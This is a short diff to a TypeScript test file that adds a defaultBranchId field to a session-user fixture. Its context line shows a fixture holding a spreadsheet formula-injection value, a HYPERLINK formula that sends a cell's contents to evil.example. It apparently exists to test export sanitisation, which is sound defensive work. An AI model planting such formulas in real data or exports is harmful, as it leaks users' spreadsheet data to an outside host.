@@ -28,7 +28,7 @@ const EVIL = { name: '=HYPERLINK("http://evil.example/?x="&A1,"Скидка")', 
 let evilId: number;
 
 function viewer(id: string, companyId: number | null, admin = false, permissions: string[] = []): Viewer {
-  const user: SessionUser = { id, name: id, email: `${id}@x.by`, phone: null, companyId, isContragentAdmin: admin, isStaff: false, permissions, orderLimit: null, orderLimitPeriod: 'order' };
+  const user: SessionUser = { id, name: id, email: `${id}@x.by`, phone: null, companyId, isContragentAdmin: admin, isStaff: false, permissions, orderLimit: null, orderLimitPeriod: 'order', defaultBranchId: null };
   return viewerFrom({ user } as App.Locals)!;
 }
 
